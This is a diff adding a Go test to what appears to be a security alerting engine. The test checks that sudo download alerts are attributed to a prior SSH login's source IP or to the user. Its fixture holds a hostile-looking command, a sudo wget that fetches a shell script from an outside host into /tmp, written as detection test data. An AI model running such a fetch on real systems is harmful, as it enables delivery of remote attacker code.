@@ -265,3 +265,53 @@ func TestBadRulesAreReportedWithFileAndLineAndOthersLoad(t *testing.T) {
 		}
 	}
 }
+
+func sudoEvent(n int, at time.Time, host, user, cmd string) event.Event {
+	e := event.Event{
+		"event.dataset": "system.auth", "event.category": []any{"process"}, "event.action": "sudo",
+		"event.outcome": "success", "user.name": user, "host.name": host, "process.command_line": cmd,
+		"vigil.event_id": fmt.Sprintf("ev-%04d", n),
+	}
+	e.SetTime(at)
+	return e
+}
+
+func TestActionsAfterALoginAreAttributedToItsSource(t *testing.T) {
+	login := sshEvent(1, t0, "198.51.100.23", "deploy", "success")
+	otherHostLogin := sshEvent(2, t0, "192.0.2.7", "deploy", "success")
+	otherHostLogin["host.name"] = "db-01"
+	wget := func(n int, at time.Time) event.Event {
+		return sudoEvent(n, at, "web-01", "deploy", "/usr/bin/wget -q http://198.51.100.23/x.sh -O /tmp/x.sh")
+	}
+	cases := []struct {
+		name       string
+		evs        []event.Event
+		wantEntity Entity
+	}{
+		{"after a login on the host", []event.Event{login, wget(3, t0.Add(time.Minute))}, Entity{"source.ip", "198.51.100.23"}},
+		{"without a login", []event.Event{wget(3, t0)}, Entity{"user.name", "deploy"}},
+		{"login on another host only", []event.Event{otherHostLogin, wget(3, t0.Add(time.Minute))}, Entity{"user.name", "deploy"}},
+		{"long after the login", []event.Event{login, wget(3, t0.Add(9 * time.Hour))}, Entity{"user.name", "deploy"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			got := run(NewEngine(loadPack(t), EngineConfig{}), c.evs)["vigil.sudo.download"]
+			if len(got) != 1 {
+				t.Fatalf("%d sudo download alerts, want 1", len(got))
+			}
+			d := got[0].Vigil.Alert
+			if d.Entity != c.wantEntity {
+				t.Fatalf("entity %v, want %v", d.Entity, c.wantEntity)
+			}
+			if len(d.GroupKeys) != 1 || d.GroupKeys[0] != (Entity{"user.name", "deploy"}) {
+				t.Fatalf("group keys %v must stay the rule's", d.GroupKeys)
+			}
+			if (d.Session != nil) != (c.wantEntity.Field == "source.ip") {
+				t.Fatalf("session %+v", d.Session)
+			}
+			if d.Session != nil && d.Session.LoginEventID != "ev-0001" {
+				t.Fatalf("session points at login %s", d.Session.LoginEventID)
+			}
+		})
+	}
+}
